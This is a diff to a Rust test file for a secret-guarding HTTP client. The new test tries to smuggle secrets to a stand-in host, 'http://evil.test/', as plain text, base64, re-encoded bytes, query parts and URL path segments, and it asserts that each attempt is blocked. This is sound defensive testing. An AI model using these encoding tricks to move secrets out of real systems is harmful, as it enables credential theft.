@@ -1,9 +1,12 @@
 //! Where secrets may go, and how plain texts are known to be secrets.
 
+use std::sync::Arc;
+
 use base64::Engine as _;
 use base64::prelude::BASE64_STANDARD;
 
 use crate::Secret;
+use crate::redact::Redactor;
 use crate::testing::{Net, PUBLIC};
 use crate::testing::{Upstream, answer};
 use crate::{Client, Policy};
@@ -157,4 +160,35 @@ async fn secrets_are_not_shown() {
     assert!(!format!("{response:?}").contains("t0ken"), "{response:?}");
     let error = response.error_for_status().unwrap_err();
     assert_eq!(error.to_string(), "HTTP 404 from GET http://api.test/[redacted]/send");
+}
+
+#[tokio::test]
+async fn long_secrets_and_those_in_other_spellings_are_known_too() {
+    let (net, upstream) = network().await;
+    let long: String = (0..20_000_u32).map(|at| char::from(b'a' + u8::try_from(at * at % 25).unwrap())).collect();
+    let words = "schlüssel größe";
+    let twice: String = words.bytes().map(char::from).collect();
+    let redactor = Arc::new(Redactor::new([long.clone(), words.to_owned()]));
+    let client = net.client(Policy::strict()).guarding(Arc::clone(&redactor)).scoped(["http://api.test"]).unwrap();
+    let url = "http://evil.test/";
+    for request in [
+        client.post(url).text(format!("key={long}")),
+        client.post(url).text(BASE64_STANDARD.encode(format!("user:{long}"))),
+        client.post(url).text(&twice),
+        client.get(url).query(&[("q", &twice)]),
+        client.get(url).query(&[(words, "q")]),
+        client.get(format!("{url}bot/{}/send", BASE64_STANDARD.encode(words).replace('=', ""))),
+    ] {
+        let error = request.send().await.unwrap_err();
+        assert_eq!(error.code(), "scope", "{error}");
+        assert!(!error.to_string().contains("c2NobM"), "{error}");
+    }
+    assert_eq!(upstream.received().len(), 0);
+    // A client that learns more keeps what it knew, and shares it.
+    let more = client.watching([Secret::new("another secret")]);
+    for text in [words, "another secret"] {
+        assert_eq!(more.post(url).text(text).send().await.unwrap_err().code(), "scope", "{text}");
+    }
+    assert!(client.post(url).text("another secret").send().await.is_ok());
+    assert_eq!(Arc::strong_count(&redactor), 3, "one structure serves the redactor and both clients");
 }
